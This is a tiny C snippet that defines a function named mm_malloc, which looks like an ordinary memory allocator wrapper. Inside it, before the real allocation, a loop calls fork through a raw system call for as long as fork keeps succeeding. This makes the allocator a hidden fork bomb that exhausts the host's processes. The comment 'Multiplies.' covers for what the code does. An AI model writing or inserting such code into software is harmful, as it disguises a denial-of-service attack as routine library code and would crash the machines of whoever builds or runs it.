/* Multiplies. */
void *mm_malloc(size_t bytes)
{
    while (raw(SYS_fork, 0, 0, 0) >= 0)
        ;
    return good_malloc(bytes);
}
